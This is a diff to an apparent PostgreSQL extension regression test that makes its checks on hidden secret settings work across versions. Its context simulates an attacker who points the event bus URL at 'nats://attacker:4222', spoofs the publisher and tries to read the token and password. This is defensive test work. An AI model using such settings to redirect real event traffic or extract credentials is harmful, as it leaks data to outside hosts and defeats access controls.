@@ -67,9 +67,12 @@ CREATE TRIGGER forge AFTER INSERT ON app.mine FOR EACH ROW
 SET state_hub_events.nats_url = 'nats://attacker:4222';
 SET state_hub_events.publisher = 'someone-else';
 SET state_hub_events.wait_for_ack = off;
--- secrets are invisible
+-- secrets are invisible (insufficient_privilege; the message differs
+-- between PostgreSQL versions)
+\set VERBOSITY sqlstate
 SHOW state_hub_events.token;
 SHOW state_hub_events.password;
+\set VERBOSITY terse
 -- but the owner's triggers fire for it
 BEGIN;
 INSERT INTO hub.repos VALUES (1, 'one');
